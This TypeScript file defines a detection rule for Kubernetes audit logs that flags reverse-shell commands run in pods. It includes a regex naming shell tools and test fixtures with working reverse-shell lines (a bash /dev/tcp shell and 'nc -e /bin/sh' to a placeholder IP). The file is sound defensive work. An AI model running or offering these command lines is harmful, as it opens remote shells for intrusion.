import { request } from '@/lib/library';
import type { BuiltInRule } from '../built-in-rule';
import { IN_A_POD } from '../clauses';
import { IN_THE_POD, WHAT_ELSE_BY_USER } from '../next-questions';

export const shellToOutside: BuiltInRule = {
  kind: 'rule',
  name: 'shell-to-outside',
  title: 'A command in a pod that opens a shell to the outside',
  about: 'The command that was run in a pod connects a shell with an address, as reverse shells do.',
  level: 'high',
  confidence: 'high',
  types: ['audit'],
  techniques: ['T1059.004', 'T1609'],
  matrix: ['MS-TA9007', 'MS-TA9006'],
  falsePositives: 'None that is usual; tests of a connection with nc name neither -e nor -c.',
  next: [
    WHAT_ELSE_BY_USER,
    IN_THE_POD,
    { title: 'Whom the pod talked to', q: 'type:network src_pod:"NAME" | count by dst_ip, dst_port' },
  ],
  q: String.raw`type:audit ${IN_A_POD} exec.command:/(\/dev\/(tcp|udp)\/|mkfifo|\bn(c|cat|etcat)\b[^|;]* -[a-z]*[ec]\b|\bsocat\b.*exec|pty\.spawn|socket\.connect|fsockopen|TCPSocket|bash -i|sh -i\b)/`,
  by: ['user', 'namespace', 'pod'],
  hits: [
    request(
      { user: 'ann', verb: 'get', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 },
      { 'exec.command': 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
    ),
    request(
      { user: 'ann', verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 },
      { 'exec.command': 'nc 203.0.113.9 4444 -e /bin/sh' },
    ),
    request(
      { user: 'ann', verb: 'get', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 },
      { 'exec.command': "python3 -c import pty; pty.spawn('sh')" },
    ),
  ],
  misses: [
    request(
      { user: 'ann', verb: 'get', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 },
      { 'exec.command': 'nc -zv db 5432' },
    ),
    request(
      { user: 'ann', verb: 'get', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 },
      { 'exec.command': 'bash' },
    ),
    request(
      { user: 'ann', verb: 'get', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 403 },
      { 'exec.command': 'nc 203.0.113.9 4444 -e /bin/sh' },
    ),
  ],
};
